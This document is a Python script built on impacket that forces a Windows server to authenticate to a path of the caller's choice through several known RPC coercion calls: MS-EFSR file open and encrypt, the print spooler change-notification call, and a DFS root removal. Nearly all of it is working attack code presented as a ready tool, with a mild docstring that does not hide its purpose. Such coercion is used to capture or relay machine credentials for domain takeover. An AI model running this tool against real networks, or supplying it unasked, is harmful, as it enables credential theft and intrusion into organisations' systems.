#!/usr/bin/python3
"""Asks a server to open a path of our choice, as public tools do, by impacket's RPC client.

    coerce.py BINDING CALL PATH [ACCOUNT PASSWORD [LEVEL]]

BINDING is a string binding such as ncacn_ip_tcp:192.0.2.20[49200] or
ncacn_np:192.0.2.20[\\pipe\\lsarpc]. CALL is efsr, efsr-encrypt, printer or dfs. LEVEL is an authentication level by number.
"""
import sys

from impacket.dcerpc.v5 import rprn, transport
from impacket.dcerpc.v5.dtypes import DWORD, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.uuid import uuidtup_to_bin


DCERPCSessionError = rprn.DCERPCSessionError  # impacket looks for it here when a call returns an error


class EfsRpcOpenFileRaw(NDRCALL):
    """MS-EFSR section 3.1.4.2.1."""
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", DWORD))


class EfsRpcEncryptFileSrv(NDRCALL):
    """MS-EFSR section 3.1.4.2.5."""
    opnum = 4
    structure = (("FileName", WSTR),)


class NetrDfsRemoveStdRoot(NDRCALL):
    """MS-DFSNM section 3.1.4.4.2."""
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


class EfsRpcOpenFileRawResponse(NDRCALL):
    """A context handle of 20 bytes and an error code, which nobody here needs apart."""
    structure = (("Context", "24s=b''"),)


class EfsRpcEncryptFileSrvResponse(NDRCALL):
    """An error code."""
    structure = (("ErrorCode", DWORD),)


class NetrDfsRemoveStdRootResponse(NDRCALL):
    """An error code."""
    structure = (("ErrorCode", DWORD),)


INTERFACES = {"efsr": ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"),
              "efsr-encrypt": ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"),
              "dfs": ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"),
              "printer": ("12345678-1234-abcd-ef00-0123456789ab", "1.0")}


def request(dce, call: str, path: str, server: str):
    """The call itself."""
    if call == "printer":
        handle = rprn.hRpcOpenPrinter(dce, f"\\\\{server}\0")["pHandle"]
        r = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
        r["hPrinter"], r["fdwFlags"], r["fdwOptions"] = handle, rprn.PRINTER_CHANGE_ADD_JOB, 0
        r["pszLocalMachine"], r["pOptions"] = path + "\0", NULL
        return r
    if call == "dfs":
        r = NetrDfsRemoveStdRoot()
        r["ServerName"], r["RootShare"], r["ApiFlags"] = path + "\0", "share\0", 1
        return r
    r = EfsRpcOpenFileRaw() if call == "efsr" else EfsRpcEncryptFileSrv()
    r["FileName"] = path + "\0"
    if call == "efsr":
        r["Flags"] = 0
    return r


def main() -> None:
    """Bind, call, and say what came back."""
    binding, call, path, *rest = sys.argv[1:]
    where = transport.DCERPCTransportFactory(binding)
    if rest and hasattr(where, "set_credentials"):
        where.set_credentials(rest[0], rest[1], "CORP")
    dce = where.get_dce_rpc()
    if len(rest) > 2:
        dce.set_auth_level(int(rest[2]))
        dce.set_credentials(rest[0], rest[1], "CORP")
    dce.connect()
    dce.bind(uuidtup_to_bin(INTERFACES[call]))
    server = binding.split(":")[1].split("[")[0]
    try:
        dce.request(request(dce, call, path, server))
        print("answered")
    except DCERPCException as error:
        print(f"answered: {error}")
    dce.disconnect()


if __name__ == "__main__":
    main()
